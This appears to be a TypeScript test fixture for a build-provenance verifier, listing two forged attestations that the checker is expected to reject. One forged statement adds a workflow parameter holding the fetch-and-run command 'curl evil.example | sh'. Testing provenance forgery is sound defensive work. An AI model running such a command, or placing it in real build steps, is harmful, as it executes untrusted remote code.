import type { BundleForm } from '../../support/attack.ts';
import type { Forms } from '../../support/attacks-in.ts';
import { BARE, BUILDER, provenance, SOURCE, workflow } from '../../support/build-provenance.ts';
import { saying } from '../../support/statement-forgery.ts';

/** A parameter changes what the right builder makes of the right source. */
export const attack: Forms<BundleForm> = [
  {
    name: 'with a parameter more',
    code: 'condition-false',
    asked: BARE,
    forge: saying({
      predicate: provenance(BUILDER, { ...workflow(SOURCE), script: 'curl evil.example | sh' }),
    }),
  },
  {
    name: 'without what the condition reads',
    code: 'condition-false',
    asked: BARE,
    forge: saying({ predicate: {} }),
  },
];
